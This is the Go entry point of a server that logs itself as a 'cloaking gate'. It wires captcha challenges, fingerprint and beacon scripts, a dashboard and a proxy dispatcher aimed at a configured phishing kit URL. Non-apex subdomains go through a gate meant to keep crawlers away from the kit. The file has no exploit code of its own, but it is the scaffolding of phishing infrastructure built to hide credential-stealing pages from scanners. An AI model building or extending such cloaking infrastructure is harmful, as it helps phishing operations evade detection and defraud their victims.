package main

import (
	"context"
	"fmt"
	"log/slog"
	"net"
	"net/http"
	"os"
	"os/signal"
	"strings"
	"syscall"
	"time"

	"cloaken/internal/captcha"
	"cloaken/internal/config"
	"cloaken/internal/dashboard"
	"cloaken/internal/database"
	"cloaken/internal/gate"
	"cloaken/internal/proxy"
	"cloaken/internal/render"

	"github.com/gorilla/mux"
	"github.com/rs/cors"
	"golang.org/x/time/rate"
)

func main() {
	cfg, err := config.Load()
	if err != nil {
		slog.Error("failed to load configuration", "error", err)
		os.Exit(1)
	}

	setupLogger(cfg.LogLevel)

	db, err := database.NewDB(cfg)
	if err != nil {
		slog.Error("failed to connect to database", "error", err)
		os.Exit(1)
	}
	defer db.Close()

	var rotate *captcha.RotateChallenger
	if len(cfg.RotateKey) > 0 {
		rotate, err = captcha.NewRotateChallenger(cfg.RotateKey, cfg.PuzzleImageDir)
		if err != nil {
			slog.Warn("rotate challenges disabled", "error", err)
			rotate = nil
		}
	} else {
		slog.Warn("rotate challenges disabled: no ROTATE_SECRET_KEY configured")
	}

	engine := captcha.NewEngine(cfg, rotate)

	dispatcher, err := proxy.NewDispatcher(cfg.PhishingKitURL)
	if err != nil {
		slog.Error("failed to build kit dispatcher", "error", err)
		os.Exit(1)
	}

	renderer, err := render.New("./web/views")
	if err != nil {
		slog.Error("failed to load templates", "error", err)
		os.Exit(1)
	}

	gateHandler := gate.New(cfg, db, engine, dispatcher, renderer)
	dash := dashboard.New(cfg, db, renderer)

	router := mux.NewRouter()
	router.Use(requestLogging)

	// Crawlers ask for this on every host; never let it fall through to
	// the kit proxy.
	router.HandleFunc("/favicon.ico", func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(http.StatusOK)
	})

	// Beacon and fingerprint scripts are served on every host.
	router.PathPrefix("/_").Handler(http.FileServer(http.Dir("./web/public")))

	// Apex and www get the dashboard; every other host is treated as a
	// honeypot subdomain.
	dashRouter := dash.Router()
	router.MatcherFunc(func(r *http.Request, rm *mux.RouteMatch) bool {
		host := requestHost(r)
		return host == cfg.BaseDomain || host == "www."+cfg.BaseDomain
	}).Handler(dashRouter)
	router.PathPrefix("/").Handler(gateHandler.Router())

	c := cors.New(cors.Options{
		AllowedOrigins:   cfg.APICORSOrigins,
		AllowedMethods:   []string{"GET", "POST", "OPTIONS"},
		AllowedHeaders:   []string{"*"},
		AllowCredentials: true,
	})

	rateLimiter := rate.NewLimiter(
		rate.Every(time.Duration(cfg.APIRateLimitWindowMins)*time.Minute/time.Duration(cfg.APIRateLimitRequests)),
		cfg.APIRateLimitRequests,
	)

	finalHandler := rateLimitMiddleware(rateLimiter)(c.Handler(router))

	server := &http.Server{
		Addr:         fmt.Sprintf("%s:%s", cfg.ServerHost, cfg.ServerPort),
		Handler:      finalHandler,
		ReadTimeout:  30 * time.Second,
		WriteTimeout: 30 * time.Second,
		IdleTimeout:  120 * time.Second,
	}

	slog.Info("cloaking gate starting",
		"addr", server.Addr,
		"baseDomain", cfg.BaseDomain,
		"kitURL", cfg.PhishingKitURL,
		"rotateEnabled", rotate != nil)

	go func() {
		if err := server.ListenAndServe(); err != nil && err != http.ErrServerClosed {
			slog.Error("server failed", "error", err)
			os.Exit(1)
		}
	}()

	quit := make(chan os.Signal, 1)
	signal.Notify(quit, syscall.SIGINT, syscall.SIGTERM)
	<-quit

	slog.Info("shutting down server")

	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()

	if err := server.Shutdown(ctx); err != nil {
		slog.Error("server forced to shutdown", "error", err)
		os.Exit(1)
	}

	slog.Info("server exited")
}

func setupLogger(level string) {
	var lvl slog.Level
	switch strings.ToLower(level) {
	case "debug":
		lvl = slog.LevelDebug
	case "warn":
		lvl = slog.LevelWarn
	case "error":
		lvl = slog.LevelError
	default:
		lvl = slog.LevelInfo
	}
	slog.SetDefault(slog.New(slog.NewJSONHandler(os.Stdout, &slog.HandlerOptions{Level: lvl})))
}

func requestHost(r *http.Request) string {
	if h, _, err := net.SplitHostPort(r.Host); err == nil {
		return h
	}
	return r.Host
}

func requestLogging(next http.Handler) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		slog.Info("request", "method", r.Method, "host", r.Host, "path", r.URL.RequestURI())
		next.ServeHTTP(w, r)
	})
}

func rateLimitMiddleware(limiter *rate.Limiter) func(http.Handler) http.Handler {
	return func(next http.Handler) http.Handler {
		return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			if !limiter.Allow() {
				http.Error(w, "Rate limit exceeded", http.StatusTooManyRequests)
				return
			}
			next.ServeHTTP(w, r)
		})
	}
}
